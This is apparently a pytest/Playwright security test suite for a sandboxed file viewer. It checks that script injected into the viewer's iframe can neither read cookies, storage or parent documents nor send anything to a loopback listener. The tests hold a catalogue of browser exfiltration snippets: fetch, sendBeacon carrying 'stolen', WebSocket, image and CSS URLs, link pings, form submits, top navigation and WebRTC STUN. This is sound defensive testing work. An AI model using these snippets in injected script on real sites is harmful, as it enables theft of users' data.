"""A document that has taken the viewer's frame over: it finds nothing, and sends nothing.

Script runs in the frame as if a document had brought it. A listener on loopback hears whatever gets
out. Each way out is then tried from a page without any of the defences: once a second listener has
heard that, what the frame tried before would have been heard, too.
"""

from __future__ import annotations

import http.server
import os
import shutil
import socket
import tempfile
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Error, Frame, Page, expect

from tests import documents
from tests.browser.conftest import FLAGS, Profile, RunningSite, SignIn

LINK = """(where) => {{
  const link = document.createElement("link");
  Object.assign(link, {{ rel: "{rel}", as: "{kind}", href: where + "/{rel}" }});
  document.head.append(link);
}}"""
ELEMENT = """(where) => {{
  const element = document.createElement("{tag}");
  element.{attribute} = where + "/{tag}";
  document.body.append(element);
}}"""
WORKER = """(where) => {
  const code = `fetch("${where}/worker").catch(() => {});
    try { importScripts("${where}/imported"); } catch {}`;
  new Worker(URL.createObjectURL(new Blob([code])));
}"""
WAYS_OUT = {
    "fetch": "(where) => { fetch(where, { mode: 'no-cors' }).catch(() => {}); }",
    "xhr": "(where) => { const x = new XMLHttpRequest(); x.open('GET', where); x.send(); }",
    "beacon": "(where) => { navigator.sendBeacon(where, 'stolen'); }",
    "socket": "(where) => { new WebSocket(where.replace('http', 'ws')); }",
    "events": "(where) => { new EventSource(where); }",
    "image": "(where) => { new Image().src = where; }",
    "style": "(where) => { document.body.style.backgroundImage = `url(${where})`; }",
    "font": "(where) => { new FontFace('x', `url(${where})`).load().catch(() => {}); }",
    "import": "(where) => { import(where).catch(() => {}); }",
    "script": ELEMENT.format(tag="script", attribute="src"),
    "frame": ELEMENT.format(tag="iframe", attribute="src"),
    "object": ELEMENT.format(tag="object", attribute="data"),
    "embed": ELEMENT.format(tag="embed", attribute="src"),
    "video": ELEMENT.format(tag="video", attribute="src"),
    "prefetch": LINK.format(rel="prefetch", kind=""),
    "preload": LINK.format(rel="preload", kind="image"),
    "module": LINK.format(rel="modulepreload", kind=""),
    "worker": WORKER,
    "navigation": "(where) => { location = where; }",
    "refresh": """(where) => {
        const meta = document.createElement("meta");
        Object.assign(meta, { httpEquiv: "refresh", content: `0;url=${where}` });
        document.head.append(meta);
    }""",
    "link": """(where) => {
        const link = document.createElement("a");
        link.href = where;
        document.body.append(link);
        link.click();
    }""",
    "top link": """(where) => {
        const link = document.createElement("a");
        Object.assign(link, { href: where, target: "_top" });
        document.body.append(link);
        link.click();
    }""",
    "ping": """(where) => {
        const link = document.createElement("a");
        Object.assign(link, { href: "#here", ping: where });
        document.body.append(link);
        link.click();
    }""",
    "top": "(where) => { top.location = where; }",
    "window": "(where) => { open(where); }",
    "form": """(where) => {
        const form = document.createElement("form");
        form.action = where;
        document.body.append(form);
        form.submit();
    }""",
}
WEBRTC = """(port) => {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
  connection.createDataChannel("x");
  connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  globalThis.kept = connection;
}"""

GATHERED = """(port) => new Promise((then) => {
  const iceServers = [{ urls: `stun:127.0.0.1:${port}` }];
  const connection = new RTCPeerConnection({ iceServers });
  connection.onicegatheringstatechange = () =>
    connection.iceGatheringState === "complete" && then();
  connection.createDataChannel("x");
  connection.createOffer().then((offer) => connection.setLocalDescription(offer)).catch(then);
})"""


class Listener:
    """Hears every connection by TCP and every datagram."""

    def __init__(self) -> None:
        self.heard = threading.Event()
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self.where = f"http://127.0.0.1:{self._tcp.getsockname()[1]}"
        self.stun = self._udp.getsockname()[1]
        for listen in (self._connections, self._datagrams):
            threading.Thread(target=listen, daemon=True).start()

    def _connections(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return  # The test is over.
            self.heard.set()
            connection.close()

    def _datagrams(self) -> None:
        while True:
            try:
                self._udp.recvfrom(2000)
            except OSError:
                return
            self.heard.set()

    def close(self) -> None:
        # What waits in a thread is woken first, or its socket stays open.
        for waiting in (self._tcp, self._udp):
            with suppress(OSError):
                waiting.shutdown(socket.SHUT_RDWR)
            waiting.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    """What the frame tries to reach."""
    heard = Listener()
    yield heard
    heard.close()


@pytest.fixture
def afterwards() -> Iterator[Listener]:
    """What a page without defences reaches in the same way, later."""
    heard = Listener()
    yield heard
    heard.close()


class Bare(http.server.BaseHTTPRequestHandler):
    """A page that forbids nothing, to try the listener from."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>bare</title><body>")

    def log_message(self, format: str, *args: Any) -> None:
        """Nothing is to be read of it."""


@pytest.fixture(scope="module")
def bare() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Bare)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def shown(site: RunningSite) -> str:
    """The address of the viewer of a text of Alice's."""
    file_id = site.run(
        "from accounts.models import User\nfrom files.vault import storing\n"
        "alice = User.objects.get(username='alice')\n"
        "print('id', storing.store(alice, [b'a document'], name='Hostile.txt',\n"
        "    content_type='text/plain').pk)\n"
    ).split()[-1]
    return f"/files/{file_id}/view/"


@pytest.fixture(scope="module")
def viewer(unwatched_profile: Profile, sign_in: SignIn) -> Iterator[Page]:
    """Alice's tab."""
    tab = unwatched_profile.begin()
    sign_in(tab, "alice", to="")
    yield tab
    unwatched_profile.end()


@pytest.fixture
def taken(viewer: Page, shown: str) -> Iterator[tuple[Page, Frame]]:
    """The viewer, opened anew, and its frame, in which the test's script runs."""
    viewer.goto(shown)
    expect(viewer.locator("[data-viewer]")).to_have_attribute("data-state", "shown")
    [frame] = [frame for frame in viewer.frames if frame.url.endswith("/files/viewer/")]
    yield viewer, frame
    close_popups(viewer)


@pytest.fixture(scope="module")
def elsewhere(browser: Browser) -> Iterator[Page]:
    """A tab that was never at the site."""
    with browser.new_context() as context:
        yield context.new_page()


@pytest.fixture
def undefended(elsewhere: Page, bare: str) -> Iterator[Page]:
    """The page that forbids nothing."""
    elsewhere.goto(bare)
    yield elsewhere
    close_popups(elsewhere)


def close_popups(page: Page) -> None:
    """Leave the page as the only one of its profile."""
    for other in page.context.pages:
        if other is not page:
            other.close()


def attempt(frame: Frame | Page, script: str, to: str | int) -> None:
    try:
        frame.evaluate(script, to)
    except Error:
        return  # Refused at once, or gone with what it did.


def done_with(page: Page) -> None:
    """Wait until what was begun in the page and its frames has had its turn."""
    for frame in page.frames:
        attempt(frame, "() => new Promise((then) => setTimeout(() => setTimeout(then)))", "")
    page.evaluate("() => fetch('/healthz', { cache: 'no-store' }).then((answer) => answer.text())")


@pytest.mark.parametrize("way", WAYS_OUT)
def test_nothing_gets_out(
    taken: tuple[Page, Frame],
    undefended: Page,
    listener: Listener,
    afterwards: Listener,
    way: str,
) -> None:
    here, frame = taken
    before = here.url
    attempt(frame, WAYS_OUT[way], listener.where)
    done_with(here)
    attempt(undefended, WAYS_OUT[way], afterwards.where)
    assert afterwards.heard.wait(10), "the test itself hears nothing"
    assert not listener.heard.is_set(), way
    assert here.url == before


def test_webrtc_sends_nothing(
    taken: tuple[Page, Frame], undefended: Page, listener: Listener, afterwards: Listener
) -> None:
    here, frame = taken
    assert frame.evaluate("[typeof RTCPeerConnection, typeof webkitRTCPeerConnection]") == [
        "undefined",
        "undefined",
    ]
    attempt(frame, WEBRTC, listener.stun)
    # Nor by a window of one's own: it is another origin's.
    anew = "(port) => { const f = document.createElement('iframe'); document.body.append(f);"
    attempt(frame, f"{anew} f.contentWindow.eval(`({WEBRTC})(${{port}})`); }}", listener.stun)
    with pytest.raises(Error, match="SecurityError"):
        frame.evaluate(
            "() => { const f = document.createElement('iframe'); document.body.append(f);"
            " return typeof f.contentWindow.RTCPeerConnection; }"
        )
    done_with(here)
    undefended.evaluate(WEBRTC, afterwards.stun)
    assert afterwards.heard.wait(10), "the test itself hears nothing"
    assert not listener.heard.is_set()


def test_webrtc_is_closed_by_the_header_as_well(
    page: Page, undefended: Page, listener: Listener, afterwards: Listener
) -> None:
    """In a document whose scripts did not run: Chromium's own."""
    page.route("**/static/viewer/**", lambda route: route.abort())
    page.goto("/files/viewer/")
    assert page.evaluate("typeof RTCPeerConnection") == "function"
    # Once it has asked everybody whom it may ask, it says so.
    page.evaluate(GATHERED, listener.stun)
    undefended.evaluate(WEBRTC, afterwards.stun)
    assert afterwards.heard.wait(10), "the test itself hears nothing"
    assert not listener.heard.is_set()


@pytest.mark.parametrize(
    "secret",
    [
        "document.cookie",
        "localStorage.length",
        "sessionStorage.length",
        "indexedDB.open('x')",
        "parent.document.body",
        "top.document.title",
        "parent.location.href",
        "frameElement.title",
        "new SharedWorker('data:,')",
    ],
)
def test_there_is_nothing_to_be_found(taken: tuple[Page, Frame], secret: str) -> None:
    _, frame = taken
    found = frame.evaluate(
        f"() => {{ try {{ return String({secret}); }} catch (error) {{ return error.name; }} }}"
    )
    assert found in {"SecurityError", "TypeError", "null"}, found
    assert frame.evaluate("self.origin") == "null"
    assert "Hostile" not in frame.evaluate("[location.href, document.referrer, name].join()")


def test_the_frame_alone_is_nobodys_either(page: Page, site: RunningSite) -> None:
    page.goto("/files/viewer/")
    assert page.evaluate("self.origin") == "null"


MARK = "Plaintext-mark-7f3a91"


def test_nothing_that_was_viewed_is_on_the_disk(
    browser: Browser,
    site: RunningSite,
    sign_in: SignIn,
    tmp_path: Path,
    request: pytest.FixtureRequest,
) -> None:
    """In the browser's profile and its temporary files, while it runs and afterwards."""
    contents = {
        "disk.txt": ("text/plain", MARK.encode() * 2_000),
        "disk.pdf": ("application/pdf", documents.pdf([MARK] * 3)),
        "disk.png": ("image/png", documents.png(60, 40, mark=MARK.encode())),
        "disk.wav": ("audio/wav", documents.wav(1.0, mark=MARK.encode() * 2_000)),
    }
    ids = []
    for name, (kind, content) in contents.items():
        (tmp_path / name).write_bytes(content)
        ids.append(
            site.run(
                "from accounts.models import User\nfrom files.vault import storing\n"
                "alice = User.objects.get(username='alice')\n"
                f"content = open({str(tmp_path / name)!r}, 'rb').read()\n"
                f"print('id', storing.store(alice, [content], name={name!r},\n"
                f"    content_type={kind!r}).pk)\n"
            ).split()[-1]
        )
    # Short: a socket of Chromium's is in there.
    temporary = Path(tempfile.mkdtemp())
    request.addfinalizer(lambda: shutil.rmtree(temporary))
    profile = tmp_path / "profile"
    launch = browser.browser_type.launch_persistent_context
    flags = [*FLAGS, "--no-sandbox"] if os.geteuid() == 0 else FLAGS
    with launch(
        str(profile),
        executable_path=os.environ.get("CHROMIUM", "/usr/bin/chromium"),
        args=flags,
        env={**os.environ, "TMPDIR": str(temporary)},
        base_url=site.url,
    ) as context:
        page = context.new_page()
        sign_in(page, "alice")
        # The search itself finds what is there.
        page.evaluate(f"localStorage.setItem('proof', {MARK + '-proof'!r})")
        for file_id in ids:
            page.goto(f"/files/{file_id}/view/")
            expect(page.locator("[data-viewer]")).to_have_attribute("data-state", "shown")
        found = marked(profile, temporary)
    found |= marked(profile, temporary)
    assert {path.split("/")[0] for path in found} == {"Local Storage"}, found


def marked(*folders: Path) -> set[str]:
    """Files with the mark, below `Default` of the profile; Chromium may write UTF-16."""
    found = set()
    for folder in folders:
        for path in folder.rglob("*"):
            try:
                content = path.read_bytes() if path.is_file() else b""
            except OSError:
                continue  # Gone meanwhile.
            if MARK.encode() in content or MARK.encode("utf-16-le") in content:
                name = str(path.relative_to(folder)).removeprefix("Default/")
                found.add(name)
    return found
